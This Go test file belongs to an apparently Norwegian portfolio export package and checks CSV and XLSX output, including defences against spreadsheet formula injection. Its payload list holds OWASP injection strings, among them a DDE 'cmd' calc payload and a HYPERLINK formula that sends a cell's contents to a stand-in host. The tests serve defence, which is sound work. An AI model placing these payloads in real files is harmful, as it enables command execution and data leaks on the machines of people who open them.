package export_test

import (
	"bytes"
	"encoding/csv"
	"math"
	"strings"
	"testing"
	"time"

	"funn/internal/platform/export"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
)

// payloads are texts that spreadsheets have run or may run as formulas: the
// list of OWASP's "CSV Injection" page with blanks, marks without width and
// full-width signs before the formula.
var payloads = []string{
	`=1+1`,
	`+1+1`,
	`-1+1`,
	`@SUM(1+1)`,
	"\t=1+1",
	"\r=1+1",
	"\x00=1+1",
	`=cmd|' /C calc'!A0`,
	`=HYPERLINK("http://example.org/?x="&A1;"se her")`,
	` =1+1`,
	"\uFEFF=1+1",
	`＝1+1`,
}

func list() export.Sheet {
	return export.Sheet{
		Name: "Prosjekter", Title: "Prosjekter i porteføljen", Note: "Kilde: Funn, 2. januar 2023",
		Head: []string{"Nummer", "Tittel", "Beløp", "Start", "Andel", "Merknad"},
		Rows: [][]export.Cell{
			{export.Text("P-2022-041"), export.Text("Æøå; «sitat» \"to\"\nny linje"), export.Money(22_000_000_00), export.Date(time.Date(2022, 2, 1, 0, 0, 0, 0, time.UTC)), export.Number(0.625), export.Empty()},
			{export.Text("P-2022-042"), export.Text("+6 md."), export.Money(-1_50), export.Date(time.Time{}), export.Number(math.NaN())},
			{export.Text("P-2022-043"), export.Text(""), export.Money(-5), export.Date(time.Date(1899, 1, 1, 0, 0, 0, 0, time.UTC)), export.Int(-7), export.Text("ja")},
		},
	}
}

func writeCSV(t testing.TB, s export.Sheet) string {
	t.Helper()
	var b bytes.Buffer
	if err := export.WriteCSV(&b, s); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func readCSV(t testing.TB, s string) [][]string {
	t.Helper()
	body, found := strings.CutPrefix(s, "\uFEFF")
	if !found {
		t.Fatalf("no byte order mark in %q", s)
	}
	r := csv.NewReader(strings.NewReader(body))
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("read back %q: %v", s, err)
	}
	return rows
}

func readXLSX(t testing.TB, sheets ...export.Sheet) *excelize.File {
	t.Helper()
	var b bytes.Buffer
	if err := export.WriteXLSX(&b, sheets...); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := f.Close(); err != nil {
			t.Error(err)
		}
	})
	return f
}

func TestCSV(t *testing.T) {
	t.Parallel()
	want := "\uFEFF" + strings.Join([]string{
		`Nummer;Tittel;Beløp;Start;Andel;Merknad`,
		"P-2022-041;\"Æøå; «sitat» \"\"to\"\"\r\nny linje\";22000000;2022-02-01;0,625;",
		`P-2022-042;'+6 md.;-1,50;;;`,
		`P-2022-043;;-0,05;1899-01-01;-7;ja`,
		``,
	}, "\r\n")
	if diff := cmp.Diff(want, writeCSV(t, list())); diff != "" {
		t.Errorf("CSV (-want +got):\n%s", diff)
	}
}

func TestXLSX(t *testing.T) {
	t.Parallel()
	f := readXLSX(t, list())
	got, err := f.GetRows("Prosjekter", excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"Nummer", "Tittel", "Beløp", "Start", "Andel", "Merknad"},
		{"P-2022-041", "Æøå; «sitat» \"to\"\nny linje", "22000000", "44593", "0.625"},
		{"P-2022-042", "'+6 md.", "-1.5"},
		{"P-2022-043", "", "-0.05", "1899-01-01", "-7", "ja"},
		nil,
		{"Prosjekter i porteføljen"},
		{"Kilde: Funn, 2. januar 2023"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("rows (-want +got):\n%s", diff)
	}
}

func TestFormulasAreText(t *testing.T) {
	t.Parallel()
	for _, p := range payloads {
		s := export.Sheet{Name: p, Title: p, Note: p, Head: []string{p, "B"}, Rows: [][]export.Cell{{export.Text(p), export.Int(-1)}}}
		rows := readCSV(t, writeCSV(t, s))
		for _, row := range rows {
			if !strings.HasPrefix(row[0], "'") {
				t.Errorf("CSV: %q was written as %q", p, row[0])
			}
		}
		if rows[1][1] != "-1" {
			t.Errorf("CSV: the number -1 was written as %q", rows[1][1])
		}
		f := readXLSX(t, s)
		name := f.GetSheetName(0)
		for _, at := range []string{"A1", "A2", "A4", "A5"} {
			formula, err := f.GetCellFormula(name, at)
			if err != nil {
				t.Fatal(err)
			}
			value, err := f.GetCellValue(name, at)
			if err != nil {
				t.Fatal(err)
			}
			if formula != "" || !strings.HasPrefix(value, "'") {
				t.Errorf("XLSX %s: %q was written as formula %q, value %q", at, p, formula, value)
			}
		}
	}
}
